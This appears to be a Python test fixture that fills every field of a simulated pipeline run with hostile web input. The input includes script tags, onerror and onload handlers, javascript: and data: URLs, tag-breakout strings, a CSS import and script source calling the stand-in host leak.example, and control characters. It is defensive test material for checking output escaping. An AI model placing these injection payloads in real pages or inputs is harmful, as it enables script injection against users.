"""A run whose every text tries to act: scripts, handlers, requests, unclosed tags, control characters."""

from __future__ import annotations

from pathlib import Path

from tests.helpers.finished_run import Judged, StageRun, page, pair, written_run
from webinstruct.core.stage import Quarantined, Rejected
from webinstruct.runner.run_dir import RunDir
from webinstruct.tables import CANDIDATES, REFINED

__all__ = ["ACTS", "ASKS", "hostile_answer", "hostile_question", "hostile_run"]

ACTS = "document.documentElement.setAttribute('data-acted','1');document.title='acted'"
"""What a script would do to show that it ran."""
ASKS = "http://leak.example"
"""Where requests would go."""

_SCRIPT = f"<script>{ACTS}</script><script src={ASKS}/s.js></script>"
_BREAKOUT = f'"\'><img src=x onerror="{ACTS}"><img src={ASKS}/i.png><svg/onload="{ACTS}">'
_UNCLOSED = (
    f"</title></style></textarea><!-- <b><i <a href='javascript:{ACTS}'><style>@import '{ASKS}/c.css';"
)
_CONTROLS = "\x00\x1b[31m\x07\u202e\u2028&lt;script&gt;&#x3c;img&#x3e;"
_ALL = _SCRIPT + _BREAKOUT + _UNCLOSED + _CONTROLS

hostile_question = f"Why {_ALL}?"
hostile_answer = f"Because {_ALL}."


def hostile_run(root: Path) -> RunDir:
    """A run of two stages: pages, then refined pairs, with rejected and quarantined rows."""
    text = f"Before {_ALL}\n\n{hostile_question}\n{hostile_answer}\n\nBehind {_ALL}"
    first = page(f"javascript:{ACTS}", text, title=_ALL, domain=_ALL, lang=_ALL)
    second = page(f'https://tea.example/"><img/src={ASKS}/u.png/onerror={ACTS}>', text, title=_ALL)
    pairs = [
        pair(of, hostile_question, hostile_answer, method=_ALL, grounding=_ALL)
        | {"orig_question": _BREAKOUT, "orig_answer": _UNCLOSED, "refine_action": _ALL, "refiner": _ALL}
        for of in (first, second)
    ]
    stops = [
        Judged(_ALL, _ALL, [Rejected(_ALL, _ALL)]),
        Judged(_ALL, f"data:text/html,{_SCRIPT}", [Quarantined(_ALL, _ALL)]),
    ]
    kept = [Judged(of["page_id"], of["url"], [of]) for of in (first, second)]
    refined = [Judged(ours["pair_id"], ours["url"], [ours]) for ours in pairs]
    return written_run(
        root,
        [
            StageRun("recall", CANDIDATES, [[*kept, *stops]], {"note": _ALL}, {"model": _ALL}),
            StageRun("refine", REFINED, [[*refined, *stops]]),
        ],
        {"path": _ALL},
    )
